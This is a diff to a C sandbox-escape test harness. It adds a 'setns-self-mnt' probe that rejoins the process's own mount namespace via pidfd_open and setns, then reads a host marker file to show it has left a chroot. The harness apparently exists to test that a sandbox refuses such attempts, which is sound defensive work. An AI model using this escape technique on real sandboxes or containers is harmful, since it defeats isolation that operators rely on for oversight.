@@ -67,6 +67,10 @@
  *   ambient                  raise CAP_SYS_ADMIN as an ambient capability
  *   exec-regain              exec ourselves as "sysadmin" after capset
  *   setns PATH               setns() into the namespace file PATH
+ *   setns-self-mnt           setns(pidfd_open(getpid()), CLONE_NEWNS):
+ *                            rejoining its own mount namespace sets the
+ *                            root to that namespace's; works if the
+ *                            host's /.host-marker can then be read
  *   unshare-mnt              unshare(CLONE_NEWNS)
  *   userns-mount             unshare(CLONE_NEWUSER), then with the
  *                            capabilities it gives unshare(CLONE_NEWNS)
@@ -828,6 +832,28 @@ static int attack_setns(const char *path)
 	return 0;
 }
 
+static int attack_setns_self_mnt(void)
+{
+	char buf[64];
+	ssize_t n;
+	int pidfd, fd;
+
+	pidfd = syscall(434 /* pidfd_open */, getpid(), 0);
+	if (pidfd < 0)
+		return refused("pidfd_open");
+	if (setns(pidfd, CLONE_NEWNS) < 0)
+		return refused("setns");
+	fd = open("/.host-marker", O_RDONLY);
+	if (fd < 0)
+		return refused("open-host-marker");
+	n = read(fd, buf, sizeof(buf) - 1);
+	if (n < 0)
+		return refused("read-host-marker");
+	buf[n] = '\0';
+	printf("OK out of the chroot: %s", buf);
+	return 0;
+}
+
 static int attack_rlimit(void)
 {
 	struct rlimit r;
@@ -1092,6 +1118,8 @@ int escape_net_main(int argc, char **argv)
 		return attack_exec_regain();
 	if (!strcmp(a, "setns") && argc > 1)
 		return attack_setns(argv[1]);
+	if (!strcmp(a, "setns-self-mnt"))
+		return attack_setns_self_mnt();
 	if (!strcmp(a, "unshare-mnt"))
 		return unshare(CLONE_NEWNS) < 0 ? refused("unshare") :
 		       (puts("OK new mount namespace"), 0);
